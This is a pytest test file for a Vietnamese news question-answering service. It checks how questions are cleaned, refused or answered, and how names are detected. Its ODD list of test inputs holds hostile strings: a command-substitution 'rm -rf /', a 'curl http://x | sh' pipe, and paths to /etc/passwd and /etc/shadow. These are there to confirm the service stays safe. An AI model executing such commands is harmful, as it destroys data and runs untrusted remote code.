"""Hostile and odd questions: each gets an answer, a 'not found' or one clear BadQuestion — never a crash."""
from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from embeddings.errors import BadQuestion, LinkNotQuestion
from retrieval.answer import MAX_QUESTION_CHARS, clean_question
from retrieval.config import Settings
from retrieval.service import QAService

ODD = [
    "<a href='http://evil.example'>click</a> thu ngân sách?",
    "*_bold_* `code` [link](http://x) thu ngân sách đạt bao nhiêu",
    "../../etc/passwd",
    "/etc/shadow",
    "$(rm -rf /); echo pwned",
    "`reboot` && curl http://x | sh",
    "Thu ngân sách 🤔🤔 đạt bao nhiêu? 💰",
    "thu\x00ngân\x07sách\x1b[31m đạt",
    "Доход бюджета 预算收入 ميزانية thu ngân sách",
    "n" * 999,
]


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> QAService:
    from retrieval.config import Settings
    from tests.conftest import SEEDS

    tmp = tmp_path_factory.mktemp("q")
    return QAService.open(Settings(cache_dir=tmp / "c", index_dir=tmp / "i", model="hashing", corpus=(SEEDS,)))


@pytest.mark.parametrize("question", ODD)
def test_odd_questions_are_answered_or_declined(service: QAService, question: str, tmp_path: Path) -> None:
    before = sorted(p.name for p in Path.cwd().iterdir())
    answer = service.ask(question)
    assert answer.answered in (True, False)
    assert all(q.text for q in answer.quotes)
    assert sorted(p.name for p in Path.cwd().iterdir()) == before  # nothing touched the file system


@pytest.mark.parametrize(("question", "reason"), [
    ("", "empty"), ("   \n\t ", "empty"), ("\x00\x01\u200b", "empty"),
    ("x" * 100_000, "100,000 characters"), ("🙂🙂🙂", "no letters"), ("?!...", "no letters"),
    ("caf\udce9 thu ngân sách", "not UTF-8"),  # a latin-1 byte read with surrogateescape
])
def test_unaskable_questions_get_a_clear_reason(service: QAService, question: str, reason: str) -> None:
    with pytest.raises(BadQuestion, match=reason):
        service.ask(question)


@pytest.mark.parametrize("question", [
    "www.google.com", "https://vnexpress.net/cam-xuyen-4633.html", "?? vnexpress.net", "tiki.vn",
    "Tiki.vn/dien-thoai", "http://a.vn/x https://b.com",
])
def test_a_bare_link_is_refused_with_what_to_do(service: QAService, question: str) -> None:
    with pytest.raises(LinkNotQuestion, match="does not open links.*articles folder.*tinbot index FOLDER"):
        service.ask(question)


@pytest.mark.parametrize("question", [
    "bài trên vnexpress.net nói gì về Cẩm Xuyên?",  # a link inside a question is just words
    "Node.js là gì", "thu ngân sách 4.995 tỷ?", "a.b",
    "ASP.NET", "Amazon.com", "Booking.com", "Vietnam.net",  # capitalised: names, searched as words
])
def test_a_question_with_a_dot_or_a_link_is_still_a_question(question: str) -> None:
    assert clean_question(question) == question


@pytest.mark.parametrize(("question", "asked"), [
    ("https://vnexpress.net/metro-2.html giá vé tháng bao nhiêu?", "giá vé tháng bao nhiêu?"),
    ("giá vé tháng bao nhiêu? www.vnexpress.net/x", "giá vé tháng bao nhiêu?"),
])
def test_a_page_address_pasted_with_a_question_is_not_searched(question: str, asked: str) -> None:
    assert clean_question(question) == asked


def test_cleaning_keeps_the_words_and_drops_control_characters() -> None:
    assert clean_question("  thu\x00ngân \u200bsách\n\nđạt ") == "thu ngân sách đạt"
    assert clean_question("thu ngân s\u200bách\u2060 đạt") == "thu ngân sách đạt"  # invisible inside a word
    assert len(clean_question("a" * MAX_QUESTION_CHARS)) == MAX_QUESTION_CHARS


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=300))
def test_random_unicode_never_crashes_the_question_path(service: QAService, text: str) -> None:
    try:
        answer = service.ask(text)
    except BadQuestion as exc:
        assert str(exc)
        return
    for q in answer.quotes:
        assert q.text in {s.text for s in service.index.sentences}


@pytest.mark.parametrize(("question", "names"), [
    ("When will Long Thành international airport open?", ["Long Thành"]),
    ("Huyện Cẩm Xuyên thuộc tỉnh nào?", ["Cẩm Xuyên"]),  # the first word is capitalised anyway
    ("Ông Nguyễn Văn Thành là ai", ["Nguyễn Văn Thành"]),
    ("Who kidnapped Temüjin's first wife?", []),  # not spelled the Vietnamese way
    ("What was budget revenue in 2023?", []),  # English capitals and years are not names
    ("thu ngan sach dat bao nhieu", []),
    # so is each sentence's first word in a question of several ("Bão" is "storm", not a name)
    ("Bão Yagi đổ bộ khi nào? Bão gây thiệt hại bao nhiêu ở Hà Tĩnh?", ["Hà Tĩnh"]),
    # a numbered thing is named by its number: storm no. 4 is not storm no. 3
    ("Bão số 4 làm bao nhiêu người chết?", ["Bão số 4"]),
    ("Tuyến metro số 2 dài bao nhiêu km?", ["metro số 2"]),
    ("Con số 4 có ý nghĩa gì?", []),  # "the figure 4"
    # and a thing named by a code; not an English quarter or half-year
    ("Ai là thủ khoa khối D01?", ["D01"]),
    ("What share went to the Philippines in Q1 2025?", []),
    # an English name around a Vietnamese one: the English words translate what the article writes in Vietnamese
    ("Who is the general director of Tây Đô Food Company?", ["Tây Đô"]),
    ("What is the adult ticket price at the Cần Thơ River Culture Museum?", ["Cần Thơ"]),
    ("How much capacity will phase 2 of the Đuống River water plant add?", ["Đuống"]),
    ("Ai là HLV của CLB Thép Xanh Nam Định?", ["CLB Thép Xanh Nam Định"]),  # "CLB" is no English word
    # a city's district or ward by its number
    ("Quận 7 có bao nhiêu ca sốt xuất huyết?", ["quận 7"]),
    ("How many cases did District 7 record?", ["quận 7"]),
])
def test_specific_terms_are_vietnamese_names(question: str, names: list[str]) -> None:
    from retrieval.name_shapes import specific_terms

    assert specific_terms(question) == names


def test_a_question_about_a_name_the_corpus_never_mentions_is_declined(service: QAService) -> None:
    """Close words are not enough: the seed article never names Long Thành, so it cannot answer this."""
    assert service.searcher.unknown_terms("Sân bay Long Thành bao giờ khai thác?") == ["Long Thành"]
    assert not service.ask("Sân bay Long Thành bao giờ khai thác?").answered
    assert service.searcher.unknown_terms("Huyện Cẩm Xuyên thuộc tỉnh nào?") == []
    # A code the articles never write ("khối D01"); one they write with its letters and digits apart is known.
    assert service.searcher.unknown_terms("Thủ khoa khối D01 là ai?") == ["D01"]


def _one_article(tmp_path, article: str) -> QAService:
    """A service over a corpus of one article (the hashing model: names, not meanings, are what is tested)."""
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "article.txt").write_text(article, encoding="utf-8")
    return QAService.open(Settings(cache_dir=tmp_path / "c", index_dir=tmp_path / "i", model="hashing",
                                   corpus=(corpus,)))


def test_a_code_written_with_its_letters_and_digits_apart_is_mentioned(tmp_path) -> None:
    service = _one_article(tmp_path, "date 2025-03 Giá xăng giảm\n\nGiá xăng RON 95 giảm 480 đồng mỗi lít.\n\n"
                                     "An Nhiên\n")
    assert service.searcher.unknown_terms("Giá xăng RON95 giảm bao nhiêu?") == []
    assert service.searcher.unknown_terms("Giá xăng E5 giảm bao nhiêu?") == ["E5"]


def test_a_country_is_mentioned_by_another_of_its_names(tmp_path) -> None:
    """"Úc": the article writes "Australia"; a country it never names is still unknown."""
    service = _one_article(tmp_path, "date 2024-08 Nhãn lồng sang Australia\n\nCông ty xuất lô 6 tấn nhãn lồng sang "
                                     "Australia.\n\nAn Nhiên\n")
    assert service.searcher.unknown_terms("Lô nhãn đầu tiên sang Úc nặng bao nhiêu?") == []
    assert service.searcher.unknown_terms("Lô nhãn đầu tiên sang Nhật Bản nặng bao nhiêu?") == ["Nhật Bản"]


def test_a_name_after_an_abbreviated_title_is_mentioned_by_its_name_alone(tmp_path) -> None:
    """"HLV Tuấn": the article writes "HLV trưởng Đặng Quốc Tuấn", "ông Tuấn"; a name it never writes is still
    unknown."""
    service = _one_article(tmp_path, "date 2025-03 CLB chia tay HLV trưởng\n\nCLB bồi thường cho HLV trưởng Đặng Quốc "
                                     "Tuấn khoảng 1,2 tỷ đồng.\n\nAn Nhiên\n")
    assert service.searcher.unknown_terms("CLB bồi thường cho HLV Tuấn bao nhiêu?") == []
    assert service.searcher.unknown_terms("CLB bồi thường cho HLV Dũng bao nhiêu?") == ["HLV Dũng"]


def test_a_declined_question_keeps_its_closest_sentences_unless_it_names_the_unknown(service: QAService) -> None:
    no = service.ask("Tỷ lệ hộ nghèo của tỉnh năm 2030 dự kiến là bao nhiêu phần trăm?")
    assert (no.answered, no.quotes) == (False, ()) and len(no.more) == 10  # shown only when asked for
    named = service.ask("When will Long Thành international airport open?")  # the articles never say Long Thành
    assert (named.answered, named.more) == (False, ())
    assert service.ask("cảm ơn").more == ()


def test_an_abbreviation_is_mentioned_where_the_articles_spell_it_out(tmp_path) -> None:
    """"HĐQT" is read as the search reads it, "hội đồng quản trị": no name the articles never mention."""
    service = _one_article(tmp_path, "date 2025-04 Vinamilk họp cổ đông\n\nChủ tịch Hội đồng quản trị Lê Thành Liêm "
                                     "cho biết thị phần sữa nước tăng.\n\nAn Nhiên\n")
    assert service.searcher.unknown_terms("Ai đang giữ chức chủ tịch HĐQT Vinamilk?") == []
    assert service.searcher.unknown_terms("Ai là chủ tịch HĐTV Vinamilk?") == ["HĐTV"]  # not listed: as typed


def test_a_bodys_name_is_mentioned_with_a_units_noun_before_its_place(tmp_path) -> None:
    """"Cục Thuế Quảng Ninh" is mentioned by "Cục Thuế tỉnh Quảng Ninh"; "Khoa Nhiễm Bệnh viện ..." names no
    "Nhiễm Bệnh" ("Bệnh viện" starts the next name)."""
    service = _one_article(tmp_path, "date 2025-04 Thu ngân sách\n\nPhó Cục trưởng Cục Thuế tỉnh Quảng Ninh Trần Văn "
                                     "Nam cho biết thu ngân sách tăng.\n\nKhoa Nhiễm của Bệnh viện Đa khoa tỉnh đang "
                                     "điều trị 126 bệnh nhân.\n\nAn Nhiên\n")
    assert service.searcher.unknown_terms("Phó Cục trưởng Cục Thuế Quảng Ninh tên gì?") == []
    assert service.searcher.unknown_terms("Khoa Nhiễm Bệnh viện Đa khoa đang chữa trị bao nhiêu người?") == []
    assert service.searcher.unknown_terms("Ông Nam ở Cục Thuế Hải Phòng?") == ["Cục Thuế Hải Phòng"]
